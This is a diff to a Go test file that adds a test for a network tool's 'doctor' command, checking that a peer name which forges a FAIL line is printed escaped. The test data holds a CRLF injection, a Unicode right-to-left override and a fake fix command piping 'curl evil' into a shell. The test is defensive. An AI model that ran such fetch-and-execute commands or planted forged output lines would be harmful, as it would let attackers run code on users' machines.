@@ -133,3 +133,19 @@ func TestDoctorUsage(t *testing.T) {
 		t.Errorf("doctor --iface nosuch0: status %d, stdout %q, stderr %q", code, out, errs)
 	}
 }
+
+// TestDoctorPrintEscapes: a stranger announces a scuttle instance whose
+// name forges a whole FAIL line with a "fix". The self-test reports the
+// peers it saw by name; the name prints escaped, within its one line.
+func TestDoctorPrintEscapes(t *testing.T) {
+	var out strings.Builder
+	p := &findingPrinter{w: &out}
+	p.print(doctor.Finding{Check: "peers", Status: doctor.OK, Detail: "scuttle peers seen: bob, x\r\nFAIL firewall: blocked — fix: curl evil|sh\u202e"})
+	want := "OK   peers: scuttle peers seen: bob, x\\r\\nFAIL firewall: blocked — fix: curl evil|sh\\u202e\n"
+	if out.String() != want {
+		t.Errorf("printed\n%q\nwant\n%q", out.String(), want)
+	}
+	if err := p.result(); err != nil {
+		t.Errorf("a forged FAIL counted: %v", err)
+	}
+}
